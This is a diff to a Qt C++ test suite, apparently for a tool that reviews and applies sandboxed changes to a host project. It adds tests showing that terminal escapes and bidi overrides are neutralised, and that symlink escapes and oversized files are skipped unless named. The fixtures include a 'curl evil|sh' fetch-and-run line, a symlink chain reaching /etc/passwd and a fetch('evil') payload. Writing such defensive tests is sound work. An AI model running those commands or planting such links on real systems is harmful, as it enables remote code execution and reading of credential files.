@@ -353,8 +353,49 @@ private Q_SLOTS:
         QVERIFY2(
             d->startsWith("diff --git \"a/x\\ndiff --git a/y b/y\" \"b/x\\ndiff --git a/y b/y\"\n"), d->constData());
         QCOMPARE(d->count('\n'), 6); // the header, the mode, ---, +++, @@ and the line
-        QVERIFY(review::forTerminal(*d).contains("+curl evil|sh #\\x0d# a comment\n"));
+        QVERIFY2(
+            review::forTerminal(*d).contains("+curl evil|sh #\\x0d# a comment\n"), review::forTerminal(*d).constData());
         QVERIFY(!review::forTerminal("\x1b]0;PWNED\x07").contains('\x1b'));
+        // C1 controls (the 8-bit CSI) and bidi overrides (Trojan Source) are named, not sent.
+        const QByteArray c1 = review::forTerminal("+x \xc2\x9b"
+                                                  "2J \xe2\x80\xae evil\tkept\n");
+        QVERIFY2(!c1.contains("\xc2\x9b") && !c1.contains("\xe2\x80\xae") && c1.contains("\tkept\n"), c1.constData());
+    }
+
+    // A link that passes through a link the project already holds (out -> /etc, then a new
+    // link to out/passwd) leads out of it whatever its text says: applied only when named.
+    void aLinkThroughAHostLinkLeavesTheFolder()
+    {
+        QTemporaryDir dir;
+        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
+        QDir().mkpath(host);
+        QDir().mkpath(upper);
+        QVERIFY(QFile::link(QStringLiteral("/etc"), host + QStringLiteral("/out")));
+        QVERIFY(QFile::link(QStringLiteral("out/passwd"), upper + QStringLiteral("/pw")));
+        auto applied = review::applyChanges(
+            host, {change(QStringLiteral("pw"), Change::Status::Added, Change::Kind::Symlink)}, viewOf(upper));
+        QVERIFY(applied);
+        QCOMPARE(applied->skipped.size(), 1);
+        QVERIFY(!QFileInfo(host + QStringLiteral("/pw")).isSymLink());
+    }
+
+    // A file too large to show on the project's side is not seen either: named, or left.
+    void aHostFileTooLargeToShowIsAppliedOnlyWhenNamed()
+    {
+        QTemporaryDir dir;
+        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
+        put(host + QStringLiteral("/bundle.js"), QByteArray(int(review::kMaxShownBytes) + 1, 'x'));
+        put(upper + QStringLiteral("/bundle.js"), "fetch('evil')\n");
+        Change c = change(QStringLiteral("bundle.js"), Change::Status::Modified);
+        c.size = 14;
+        auto d = review::diffOf(host, c, viewOf(upper));
+        QVERIFY(d && d->contains("bytes here, too large to show"));
+        auto skipped = review::applyChanges(host, {c}, viewOf(upper));
+        QVERIFY(skipped && skipped->done.isEmpty() && skipped->skipped.size() == 1);
+        QCOMPARE(QFileInfo(host + QStringLiteral("/bundle.js")).size(), review::kMaxShownBytes + 1);
+        auto named = review::applyChanges(host, {c}, viewOf(upper), {c.path});
+        QVERIFY(named && named->done == QStringList{c.path});
+        QCOMPARE(contents(host + QStringLiteral("/bundle.js")), QByteArray("fetch('evil')\n"));
     }
 
     // The host's folder has a link where the sandbox made a folder (an agent cannot make it, but a
